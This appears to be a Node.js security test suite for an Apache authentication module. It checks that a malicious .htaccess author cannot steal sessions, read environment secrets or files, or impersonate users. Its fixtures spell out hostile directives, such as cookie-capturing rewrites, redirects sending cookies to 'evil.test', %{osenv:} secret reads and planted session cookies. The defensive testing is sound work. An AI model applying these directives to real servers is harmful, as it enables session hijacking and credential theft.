// Whoever may write a page of the site, and .htaccess beside it with AllowOverride All, does not get at sessions, tokens or
// secrets, and makes nobody somebody else in other places.

import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { startBackend } from './support/backend.mjs';
import { parseEnvironment, scalekitHost, signIn, siteFiles, startSite } from './support/sites.mjs';

const SECRET = 'test_made-up-secret-of-the-environment';
const KEY = 'bWFkZS11cC1rZXktb2YtdGhlLWh0YWNjZXNzLXRlc3Rz';

const rewrite = (condition) => ['RewriteEngine On', `RewriteCond ${condition} (.*)`, 'RewriteRule .* - [E=STOLEN:%1]'];
const redirect = (where) => ['<If "true">', `Redirect 302 "http://evil.test/?${where}"`, '</If>'];
const always = 'SessionMaxAge 1000'; // each answer writes the session again

// What one would write to have the Cookie header, which comes with theft=worked beside the session.
const cookie = {
  'SetEnvIf Cookie': ['SetEnvIf Cookie "(.*)" STOLEN=$1'],
  'SetEnvIf, into an answer': ['SetEnvIf Cookie "(.*)" STOLEN=$1', 'Header set X-Stolen "%{STOLEN}e"'],
  SetEnvIfExpr: ['SetEnvIfExpr "req(\'Cookie\') =~ /(.*)/" STOLEN=$1'],
  RewriteCond: rewrite('%{HTTP_COOKIE}'),
  'RewriteCond %{HTTP:Cookie}': rewrite('%{HTTP:Cookie}'),
  'RewriteCond with a look ahead': rewrite('%{LA-U:HTTP_COOKIE}'),
  RequestHeader: ['RequestHeader set X-Stolen "expr=%{req:Cookie}"'],
  Header: ['Header set X-Stolen "expr=%{HTTP_COOKIE}"'],
  'Header always': ['Header always set X-Stolen "expr=%{req_novary:Cookie}"'],
  'Header echo': ['Header echo ^Cookie$'],
  Redirect: redirect('%{HTTP_COOKIE}'),
  ErrorDocument: ['Require all denied', 'ErrorDocument 403 "%{HTTP_COOKIE}"'],
  'no authentication': ['AuthType None', 'Require all granted'],
  'a cookie of another name': ['AuthType None', 'Require all granted', 'SessionCookieName other path=/', 'SetEnvIf Cookie "(.*)" STOLEN=$1'],
};

// And for the session as mod_session shows or sends it.
const session = {
  SessionEnv: ['SessionEnv On'],
  'SessionEnv and RequestHeader': ['SessionEnv On', 'RequestHeader set X-Stolen "%{HTTP_SESSION}e"'],
  'SessionEnv and Header': ['SessionEnv On', 'Header set X-Stolen "%{HTTP_SESSION}e"'],
  'SessionEnv and Redirect': ['SessionEnv On', ...redirect('%{env:HTTP_SESSION}')],
  'SessionEnv and RewriteCond': ['SessionEnv On', ...rewrite('%{LA-U:ENV:HTTP_SESSION}')],
  'Header with the cookie that is sent': [always, 'Header set X-Stolen "expr=%{resp:Set-Cookie}"'],
  'Header always with the cookie that is sent': [always, 'Header always set X-Stolen "expr=%{resp:Set-Cookie}"'],
  'ErrorDocument with the cookie that is sent': [always, 'Require all denied', 'ErrorDocument 403 "%{resp:Set-Cookie}"'],
  'SessionCookieName2': [always, 'SessionCookieName2 other path=/', 'Header set X-Stolen "expr=%{resp:Set-Cookie2}"'],
};

// And for scripts in pages to read the cookie, or for other hosts to get it.
const attributes = {
  'SessionCookieName without HttpOnly': [always, 'SessionCookieName session path=/'],
  'SessionCookieName with Domain': [always, 'SessionCookieName session path=/;Domain=example.com;HttpOnly'],
  'Header edit': [always, 'Header edit Set-Cookie HttpOnly X', 'Header always edit Set-Cookie HttpOnly X'],
  'Header edit, with Domain': [always, 'Header always edit Set-Cookie $ ;Domain=localhost'],
};

// And for what the configuration got from httpd's environment.
const secrets = {
  PassEnv: ['PassEnv SCALEKIT_CLIENT_SECRET MY_KEY'],
  'SetEnv with a variable': ['SetEnv STOLEN ${SCALEKIT_CLIENT_SECRET}${MY_KEY}'],
  '%{osenv:}': ['Header set X-Stolen "expr=%{osenv:SCALEKIT_CLIENT_SECRET}%{osenv:MY_KEY}"'],
  'ErrorDocument with %{osenv:}': ['RedirectMatch 404 .', 'ErrorDocument 404 "%{osenv:SCALEKIT_CLIENT_SECRET}%{osenv:MY_KEY}"'],
  'ScalekitLoginHint with %{osenv:}': ['ScalekitLoginHint %{osenv:SCALEKIT_CLIENT_SECRET}%{osenv:MY_KEY}'],
};

// What is not taken there, also inside of sections.
const refused = {
  'ScalekitPassAccessToken in <If>': ['<If "true">', 'ScalekitPassAccessToken On', '</If>'],
  'ScalekitExport in <Files>': ['<Files "*">', 'ScalekitExport headers', '</Files>'],
  'ScalekitOrganization in <If>': ['<If "true">', 'ScalekitOrganization Off', '</If>'],
  ScalekitSessionScope: ['ScalekitSessionScope evil.test'],
  ScalekitClientSecret: ['ScalekitClientSecret made-up'],
  ScalekitSessionKey: ['ScalekitSessionKey made-up-key-made-up-key-made-up'],
  ScalekitEnvURL: ['ScalekitEnvURL https://evil.test'],
};

// Functions of expressions that touch files.
const files = ['file', 'filesize', 'filemod'];
const readers = {
  ScalekitLoginHint: (name) => [`ScalekitLoginHint "%{${name}:/etc/hostname}"`],
  'ScalekitDomainHint in <If>': (name) => ['<If "true">', `ScalekitDomainHint "%{${name}:/etc/hostname}"`, '</If>'],
  'Require scalekit-role': (name) => [`Require scalekit-role "%{${name}:/etc/hostname}"`],
  'Require scalekit-claim in <Files>': (name) => ['<Files "*">', `Require scalekit-claim email "%{${name}:/etc/hostname}"`, '</Files>'],
};

const groups = { cookie, session, attributes, secrets, refused };
for (const [what, lines] of Object.entries(readers)) {
  groups[what] = Object.fromEntries(files.map((name) => [name, lines(name)]));
}
const directory = (group, name) => `${group}-${name}`.replace(/\W+/g, '-');
const page = (group, name) => `/eve/${directory(group, name)}/`;

describe('an author of .htaccess', () => {
  let site;
  let backend;
  let ada;
  let value;

  before(async () => {
    backend = await startBackend();
    const written = Object.fromEntries(Object.entries(groups).flatMap(([group, all]) => Object.entries(all).flatMap(([name, lines]) => [
      [`htdocs${page(group, name)}.htaccess`, `${lines.join('\n')}\n`],
      [`htdocs${page(group, name)}index.cgi`, siteFiles['cgi-bin/env']],
    ])));
    site = await startSite({
      env: { SCALEKIT_CLIENT_SECRET: SECRET, MY_KEY: KEY },
      scalekit: { clientSecret: SECRET },
      files: {
        ...siteFiles,
        ...written,
        'htdocs/eve/names/.htaccess': `RequestHeader set X-Scalekit-Sub evil\nRequestHeader set Authorization "Bearer evil"
          SetEnv SCALEKIT_SUB evil\nSetEnv REMOTE_USER evil\nErrorDocument 404 /proxied/error\nRewriteEngine On
          RewriteRule ^proxied$ /proxied/app [L]\nRewriteRule ^open$ /public/app/x [L]\nRewriteRule ^cgi$ /cgi-bin/env [L]\n`,
        'htdocs/eve/off/.htaccess': 'Session Off\n',
        'htdocs/eve/off/index.html': 'inside\n',
      },
      config: (one) => scalekitHost(one, {
        backend,
        settings: { ScalekitClientSecret: null, ScalekitSessionKey: '${MY_KEY}' },
        locations: { '/': null, '/proxied/': ['ScalekitExport headers', 'ScalekitPassAccessToken On'] },
        // What <Location> says wins over .htaccess, what <Directory> says does not.
        extra: `ProxyPass "/public/app/" "${backend.url}/"
          <LocationMatch "^/(?!eve/|public/)">\nAuthType Scalekit\nRequire valid-user\n</LocationMatch>
          <Directory "${one.docroot}/eve">\nAuthType Scalekit\nRequire valid-user\n</Directory>`,
      }),
    });
    ada = await signIn(site);
    value = ada.jar.get('session').value;
    assert.equal(ada.arrival.status, 200);
  });

  after(async () => {
    await site?.stop();
    await backend?.stop();
  });

  // All that the page and scripts in it get to see: not Set-Cookie, which browsers keep from them.
  const seen = (answer) => JSON.stringify(answer.fields.filter(([name]) => !/^set-cookie2?$/i.test(name))) + answer.text;
  const visit = (group, name) => ada.get(page(group, name), { headers: { Cookie: `theft=worked; session=${value}` } });

  describe('does not see the session in the Cookie header with', () => {
    for (const name of Object.keys(cookie)) {
      it(name, async () => {
        const answer = await visit('cookie', name);
        assert.notEqual(answer.status, 500);
        assert.ok(!seen(answer).includes(value.slice(0, 40)), seen(answer));
        if (!/echo/.test(name)) assert.match(seen(answer), /theft=worked/, 'the others are there');
      });
    }
  });

  describe('does not see the session with', () => {
    for (const name of Object.keys(session)) {
      it(name, async () => {
        const answer = await visit('session', name);
        assert.notEqual(answer.status, 500);
        assert.doesNotMatch(seen(answer), /scalekit=\w{20}/);
      });
    }

    // httpd finds that out when it has the whole answer.
    const documents = {
      'elsewhere': '"http://evil.test/?%{resp:Set-Cookie}"', 'in a script': `"${page('session', 'SessionEnv')}index.cgi?%{resp:Set-Cookie}"`, 'of a text': '"%{resp:Set-Cookie}"',
    };
    for (const [where, document] of Object.entries(documents)) {
      it(`an ErrorDocument ${where}, for a Range that is not there`, async () => {
        site.writeFiles({ 'htdocs/eve/range/.htaccess': `${always}\nErrorDocument 416 ${document}\n`, 'htdocs/eve/range/page.html': 'a page' });
        const answer = await ada.get('/eve/range/page.html', { headers: { Range: 'bytes=999-', Cookie: `session=${value}` } });
        assert.equal(answer.status, where === 'elsewhere' ? 302 : 416);
        assert.doesNotMatch(seen(answer), /scalekit=/);
        assert.deepEqual(answer.all('Set-Cookie').map((line) => line.split('=')[0]), ['session']);
      });
    }
  });

  describe('does not change the attributes of the session cookie with', () => {
    for (const name of Object.keys(attributes)) {
      it(name, async () => {
        const sent = (await visit('attributes', name)).all('Set-Cookie').filter((line) => line.startsWith('session='));
        assert.equal(sent.length, 1);
        assert.match(sent[0], /^session=scalekit=[^;]{100,};Max-Age=1000;path=\/;HttpOnly;SameSite=Lax$/);
      });
    }
  });

  describe('does not see secrets of httpd\'s environment with', () => {
    for (const name of Object.keys(secrets)) {
      it(name, async () => {
        const answer = await visit('secrets', name);
        const stranger = await site.get(page('secrets', name));
        for (const text of [seen(answer), seen(stranger)]) {
          assert.ok(!text.includes(SECRET) && !text.includes(KEY), text);
        }
      });
    }
  });

  describe('cannot use', () => {
    for (const name of Object.keys(refused)) {
      it(name, async () => {
        const from = site.mark();
        assert.equal((await visit('refused', name)).status, 500);
        assert.match(await site.waitForLog(/\.htaccess: /, from), new RegExp(`${name.split(' ')[0]} not allowed`));
      });
    }
  });

  for (const what of Object.keys(readers)) {
    it(`cannot read files in ${what}`, async () => {
      for (const name of files) {
        const from = site.mark();
        assert.equal((await visit(what, name)).status, 500, name);
        assert.match(await site.waitForLog(/\.htaccess: /, from), /cannot understand/);
      }
    });
  }

  it('can switch sessions off only for himself, and then nobody gets in', async () => {
    const answer = await ada.get('/eve/off/');
    assert.equal(answer.status, 500);
    assert.doesNotMatch(answer.text, /inside/);
    assert.equal((await ada.get('/secret.html')).status, 200);
  });

  describe('does not make a visitor somebody else', () => {
    const ADA = 'usr_';
    it('for a proxied application', async () => {
      for (const way of ['proxied', 'not-there']) {
        const { headers } = (await ada.get(`/eve/names/${way}`)).json();
        assert.ok(headers['x-scalekit-sub'].startsWith(ADA), headers['x-scalekit-sub']);
        assert.match(headers.authorization, /^Bearer eyJ/);
      }
    });

    it('for an application that everybody may use', async () => {
      assert.equal((await ada.get('/eve/names/open')).json().headers['x-scalekit-sub'], undefined);
    });

    it('with a session of his own, handed to who has none', async () => {
      const { value: own } = (await signIn(site, { as: 'max@acme.test' })).jar.get('session');
      site.writeFiles({ 'htdocs/eve/lent/.htaccess': `Session Off\nAuthType None\nRequire all granted\nRequestHeader set Cookie "session=${own}"
        RewriteEngine On\nRewriteRule ^cgi$ /cgi-bin/env [L]\n` });
      assert.equal((await site.get('/eve/lent/cgi')).status, 302);
      const environment = parseEnvironment((await ada.get('/eve/lent/cgi')).text);
      assert.equal(environment.SCALEKIT_EMAIL, 'ada@acme.test');
    });

    it('by SessionHeader, with a session of his own', async () => {
      const { value: own } = (await signIn(site, { as: 'max@acme.test' })).jar.get('session');
      const open = 'AuthType None\nRequire all granted\n';
      site.writeFiles({
        'htdocs/eve/one/.htaccess': `${open}RewriteEngine On\nRewriteRule ^there$ /eve/two/index.cgi [L]\n`,
        'htdocs/eve/two/.htaccess': `${open}${always}\nSessionHeader X-Session\n`,
        'htdocs/eve/two/index.cgi': { text: `#!/bin/sh\nprintf 'Content-Type: text/plain\\r\\nX-Session: ${own}&a=b\\r\\n\\r\\n'\n`, mode: 0o755 },
      });
      for (const way of ['/eve/two/', '/eve/one/there']) {
        const visitor = site.visitor();
        const answer = await visitor.get(way);
        assert.equal(answer.status, 200);
        assert.match(answer.headers['set-cookie'], /^session=a=b/m, 'what others keep there is theirs');
        assert.equal((await visitor.get('/cgi-bin/env')).status, 302, way);
        const copy = ada.clone();
        await copy.get(way);
        assert.equal(parseEnvironment((await copy.get('/cgi-bin/env')).text).SCALEKIT_EMAIL, 'ada@acme.test', way);
      }
    });

    it('by Header, with the cookie of a session of his own, or of none', async () => {
      const { value: own } = (await signIn(site, { as: 'max@acme.test' })).jar.get('session');
      const lines = ['Header', 'Header always'].flatMap((one) => [own, ''].map((value) => `${one} add Set-Cookie "session=${value};path=/"`)).join('\n');
      site.writeFiles({ 'htdocs/eve/planted/.htaccess': `AuthType None\nRequire all granted\n${lines}\nHeader add Set-Cookie "theirs=1"\n`,
        'htdocs/eve/planted/index.html': 'x' });
      assert.deepEqual((await site.get('/eve/planted/')).all('Set-Cookie'), ['theirs=1']);
    });

    it('for a CGI script', async () => {
      const environment = parseEnvironment((await ada.get('/eve/names/cgi')).text);
      assert.ok(environment.SCALEKIT_SUB.startsWith(ADA), environment.SCALEKIT_SUB);
      assert.equal(environment.REMOTE_USER, environment.SCALEKIT_SUB);
    });
  });
});
